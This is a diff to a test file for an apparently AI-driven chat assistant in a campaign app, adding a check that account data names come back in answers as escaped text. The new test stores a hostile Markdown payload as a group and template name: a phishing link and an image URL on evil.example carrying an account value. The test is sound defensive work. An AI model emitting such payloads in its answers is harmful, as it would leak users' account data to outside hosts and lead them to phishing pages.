@@ -4,6 +4,8 @@
  * corpus, conversations per user, the settings (a key is never returned) and the help routes.
  */
 import { randomUUID } from 'node:crypto';
+import { micromark } from 'micromark';
+import { gfm, gfmHtml } from 'micromark-extension-gfm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { bearer, json, type TestApp, createTestApp } from '../../test/helper.ts';
 import { chat, demoCast } from './ai-fixtures.ts';
@@ -67,7 +69,7 @@ describe('data questions on the built-in engine', () => {
     await t.sql(`update templates set status = 'PENDING_REVIEW' where account_id = $1 and message_type = 'email'`, [cast.owner.accountId]);
     const { data } = await chat(t, cast.owner.token, 'Which templates are awaiting review?');
     expect(data.response).toContain('**1**');
-    expect(data.response).toContain('Weekend offer (email)');
+    expect(data.response).toContain('Weekend offer \\(email\\)'); // the name as text: its punctuation escaped
   });
 });
 
@@ -103,6 +105,40 @@ describe('drafts, never actions', () => {
     const { data } = await chat(t, cast.viewer.token, 'Create an SMS campaign for the Demo customers group');
     expect(data.response).toContain("You don't have permission to do this");
     expect(await t.sql('select count(*)::int as n from campaigns where account_id = $1', [cast.owner.accountId])).toEqual(before);
+  });
+});
+
+describe("names from the account's data are text in answers", () => {
+  const HOSTILE = 'VIP](https://evil.example/login) ![p](https://evil.example/p.png?acct=A) [x';
+  /** The answer as a Markdown renderer with GitHub's extensions (autolinks too) would show it. */
+  const rendered = (md: string) => micromark(md, { extensions: [gfm()], htmlExtensions: [gfmHtml()] });
+
+  it('a group or template named like a link and an image comes back as its name: no link out, no image', async () => {
+    const created = await t.app.inject({
+      method: 'POST',
+      url: '/api/groups',
+      headers: bearer(cast.owner.token),
+      payload: { group_name: HOSTILE },
+    });
+    expect(created.statusCode, created.body).toBe(201);
+    await t.sql(
+      `update templates set template_name = $2, status = 'PENDING_REVIEW'
+        where id = (select min(id) from templates where account_id = $1 and message_type = 'sms')`,
+      [cast.owner.accountId, HOSTILE],
+    );
+    const answers = [
+      await chat(t, cast.owner.token, 'How many customers are in the Platinum group?'), // not found: every group listed with its link
+      await chat(t, cast.owner.token, 'How many customers are in the VIP group?'),
+      await chat(t, cast.owner.token, 'Which templates are awaiting review?'),
+      await chat(t, cast.owner.token, 'Create an email campaign for tomorrow'), // which group? every group listed
+    ];
+    for (const { data } of answers) {
+      const html = rendered(data.response);
+      expect(html, data.response).toContain(HOSTILE);
+      expect(html).not.toMatch(/<img/);
+      expect(html).not.toContain('evil.example/login"');
+      for (const [, href] of html.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^\/(?!\/)/);
+    }
   });
 });
 
